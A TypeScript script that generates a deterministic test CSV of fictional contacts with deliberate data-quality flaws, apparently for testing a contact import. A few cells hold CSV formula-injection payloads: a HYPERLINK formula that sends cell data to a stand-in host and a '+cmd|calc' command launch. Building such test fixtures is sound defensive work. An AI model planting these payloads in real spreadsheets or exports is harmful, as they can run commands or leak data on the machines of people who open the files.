import { writeFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'

// Writes resources/samples/contacts.csv: a list of people who do not exist, with the damage that real lists have.
// The same list every time. Numbers are of ranges kept for fiction where those are valid (US 555-01xx, the numbers
// that Australia and Germany keep for films, London 020 7946 0xxx); elsewhere they are merely made up.

const FIRST = (
  'Ada,Alma,Amir,Anouk,Bea,Ben,Björn,Carmen,Chloé,Dario,Dina,Edgar,Elif,Emil,Esther,Farah,Felix,Freya,Gil,Greta,Hana,' +
  'Hugo,Ida,Ines,Ivo,Jade,Jonas,José,Kaja,Karim,Lars,Léa,Lina,Luca,Maja,Malik,Mina,Nils,Noa,Nora,Olga,Omar,Petra,Quinn,' +
  'Rafa,Renée,Rosa,Ruben,Sami,Selma,Sören,Tara,Theo,Tove,Uma,Vera,Wanda,Yara,Yusuf,Zoë'
).split(',')
const LAST = (
  'Alder,Ashby,Birch,Bramble,Cedarwood,Clover,Cypress,Dogwood,Elmes,Fennel,Fernandez Roble,Ginkgo,Hawthorn,Hazel,Heather,' +
  'Ivy,Juniper,Larch,Laurel,Linden,Mallow,Maple,Myrtle,Nettle,Oakes,Olive,Poplar,Quince,Rowan,Sage,Sorrel,Spruce,Sumac,' +
  'Tansy,Thistle,Tulip,Vetch,Willow,Yarrow,Zinnia'
).split(',')
const AREAS = [
  '202',
  '206',
  '212',
  '303',
  '305',
  '312',
  '404',
  '415',
  '503',
  '512',
  '602',
  '617',
  '702',
  '713',
  '808',
  '907',
]
const CITIES = ['Springfield', 'Riverton', 'Fairview', 'Lakeside', 'Oakdale', 'Hill Valley', 'Cedar Falls', 'Bay City']
const SHOPS = ['Corner Bakery', 'Bike & Co', 'Harbour Books', 'Garden, House & Yard', 'The "Old" Mill', 'Green Grocer']
const HEADER =
  'First Name,Last Name,Company,Email,Mobile,Phone,Work Phone,Fax,Country,City,Tags,Birthday,SMS Consent,Consent Date,Notes'

const SEED = 20_250_301
let chance = seeded(SEED)
const pick = <T>(items: readonly T[]): T => items[Math.floor(chance() * items.length)] as T
const digits = (count: number) => Array.from({ length: count }, () => Math.floor(chance() * 10)).join('')

interface Person {
  first: string
  last: string
  company: string
  email: string
  mobile: string
  phone: string
  work: string
  fax: string
  country: string
  city: string
  tags: string
  birthday: string
  consent: string
  consentDate: string
  notes: string
}

const TARGET = fileURLToPath(new URL('../resources/samples/contacts.csv', import.meta.url))
if (process.argv[1] === fileURLToPath(import.meta.url)) writeFileSync(TARGET, sampleContacts())

/** The whole file. */
export function sampleContacts(): string {
  chance = seeded(SEED)
  return `${makeLines().join('\r\n')}\r\n`
}

function makeLines(): string[] {
  const people = Array.from({ length: 300 }, (_, index) => person(index))
  damage(people)
  const rows = people.map(line)
  // What happens to whole lines, from the end so that the places before stay as they are.
  rows.splice(290, 0, '', '')
  rows[251] = `${rows[251]},moved here,by an extra comma`
  rows.splice(180, 0, '')
  rows[140] = `Wanda,"Willow,,wanda.willow@example.com,${usNumber(900)},,,,US,Oakdale,,,yes,2025-01-20,quote never closed`
  rows[96] = 'Total of page 2'
  rows.splice(60, 0, '   ')
  return [HEADER, ...rows]
}

function person(index: number): Person {
  const first = pick(FIRST)
  const last = pick(LAST)
  const name = `${first}.${last}`
    .toLowerCase()
    .normalize('NFD')
    .replace(/[^a-z.]/g, '')
  const country = pick(['US', 'US', 'US', 'us', 'USA', 'United States', '', '', '', '', 'U.S.'])
  return {
    first,
    last,
    company: chance() < 0.3 ? pick(SHOPS) : '',
    email: chance() < 0.8 ? `${name}${index}@example.${pick(['com', 'org', 'net'])}` : '',
    mobile: usForm(usNumber(index)),
    phone: chance() < 0.4 ? usForm(usNumber(300 + index)) : '',
    work: chance() < 0.2 ? usForm(usNumber(600 + index)) : '',
    fax: chance() < 0.1 ? usForm(usNumber(1_200 + index)) : '',
    country,
    city: pick(CITIES),
    tags: pick(['', '', 'regular', 'new', 'regular;vip', 'newsletter']),
    birthday:
      chance() < 0.3 ? `19${60 + Math.floor(chance() * 40)}-0${1 + Math.floor(chance() * 9)}-1${digits(1)}` : '',
    consent: pick(['yes', 'yes', 'yes', 'Yes', 'y', 'web form']),
    consentDate: `2025-0${1 + Math.floor(chance() * 3)}-1${digits(1)}`,
    notes: pick([
      '',
      '',
      '',
      '',
      'prefers mornings',
      'met at the fair',
      'said: "call me Al"',
      'two lines:\nask for the blue one',
    ]),
  }
}

/** Each of these stands in many lists. The numbers are places in the list. */
function damage(people: Person[]): void {
  const set = (index: number, change: Partial<Person>) => Object.assign(people[index] as Person, change)
  // Other countries, by name, code and dial code.
  const abroad: [string, string][] = [
    ['UK', '07400 123456'],
    ['United Kingdom', '+44 7400 123457'],
    ['GB', '0044 7400 123458'],
    ['England', '(07400) 123459'],
    ['+44', '7400123460'],
    ['Germany', '0152 28817386'],
    ['Deutschland', '0152/28895456'],
    ['DE', '+49 (0)172 9925904'],
    ['DEU', '0172 9968532'],
    ['France', '06 12 34 56 78'],
    ['FR', '+33 6 12 34 56 79'],
    ['FRA', '0612345680'],
    ['Australia', '0491 570 156'],
    ['AU', '+61 491 570 157'],
    ['AUS', '0491570158'],
  ]
  for (const [index, [country, mobile]] of abroad.entries())
    set(10 + index * 11, { country, mobile, phone: '', work: '' })
  // The same people again, in another spelling.
  for (const [index, of] of [
    [50, 3],
    [88, 7],
    [130, 20],
    [131, 22],
    [177, 55],
    [203, 5],
    [240, 11],
    [266, 120],
  ] as const) {
    set(index, { mobile: otherForm((people[of] as Person).mobile), country: '' })
  }
  set(275, { country: '', mobile: '+447400123456' })
  const alone = { phone: '', work: '', country: '' }
  set(30, { ...alone, mobile: '4.41E+11' })
  set(31, { ...alone, mobile: '4,47E+11' })
  set(101, { ...alone, mobile: '2025550188.0' })
  set(102, { ...alone, mobile: '447400123461' })
  set(150, { ...alone, mobile: '########' })
  set(40, { ...alone, mobile: '(202) 555-0147 ext. 12' })
  set(41, { ...alone, mobile: '312-555-0161 x204' })
  for (const index of [45, 110, 190, 222]) set(index, { ...alone, mobile: '' })
  set(46, { ...alone, mobile: 'n/a' })
  set(70, { ...alone, mobile: '555-0123' })
  set(71, { ...alone, mobile: '(555) 123-4567' })
  set(125, { ...alone, mobile: 'ask his sister' })
  set(160, { ...alone, mobile: '800-555-0199' })
  set(161, { ...alone, mobile: '020 7946 0123', country: 'UK' })
  set(162, { ...alone, mobile: '', work: '+44 20 7946 0456', country: 'United Kingdom' })
  set(195, { ...alone, mobile: '202-555-0172', country: 'Atlantis' })
  set(196, { ...alone, mobile: '+1 202 555 0173', country: 'Elsewhere' })
  // A second column serves where the first does not.
  set(80, { mobile: 'none', phone: '(212) 555-0181', country: 'US' })
  set(81, { mobile: '2125550', phone: '212.555.0182', country: 'US' })
  set(82, { mobile: '', phone: '', work: '212/555-0183', country: 'US' })
  set(205, { ...alone, mobile: '202-555-0174 / 202-555-0175' })
  set(206, { ...alone, mobile: '２０２－５５５－０１７６' })
  // What a spreadsheet would run.
  set(90, { notes: '=HYPERLINK("http://example.com/?"&A1,"open")' })
  set(91, { first: '@SUM(1+1)' })
  set(92, { company: '+cmd|calc' })
  set(93, { notes: '-2+3+cmd' })
  set(94, { notes: '-12.50' })
  set(118, { email: 'not an address' })
  set(119, { email: 'two@example.com, three@example.com' })
  for (const index of [135, 136, 230]) set(index, { consent: 'no' })
  set(137, { consentDate: '03/04/2025' })
  set(245, { last: 'O’Hazel-Müller', first: 'Ana María' })
  set(246, { first: '  Ivo ', last: ' Larch  ' })
}

/** The number at a place of the fiction range: 100 in each area. */
function usNumber(place: number): string {
  return `${AREAS[Math.floor(place / 100)]}55501${String(place % 100).padStart(2, '0')}`
}

function usForm(number: string): string {
  const [area, office, line] = [number.slice(0, 3), number.slice(3, 6), number.slice(6)]
  return pick([
    `(${area}) ${office}-${line}`,
    `${area}-${office}-${line}`,
    `${area}.${office}.${line}`,
    number,
    `+1 ${area} ${office} ${line}`,
    `1-${area}-${office}-${line}`,
  ])
}

function otherForm(mobile: string): string {
  const number = mobile.replace(/\D/g, '').slice(-10)
  return mobile.startsWith('+1') ? `(${number.slice(0, 3)}) ${number.slice(3, 6)} ${number.slice(6)}` : `+1${number}`
}

/** Not the app's writer, which would put an apostrophe before the formulas that this list is to show. */
function line(one: Person): string {
  const cells = [
    one.first,
    one.last,
    one.company,
    one.email,
    one.mobile,
    one.phone,
    one.work,
    one.fax,
    one.country,
    one.city,
    one.tags,
    one.birthday,
    one.consent,
    one.consentDate,
    one.notes,
  ]
  return cells.map(cell => (/[",\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',')
}

/** A small generator of its own (mulberry32), so that the list is the same on every machine. */
function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}
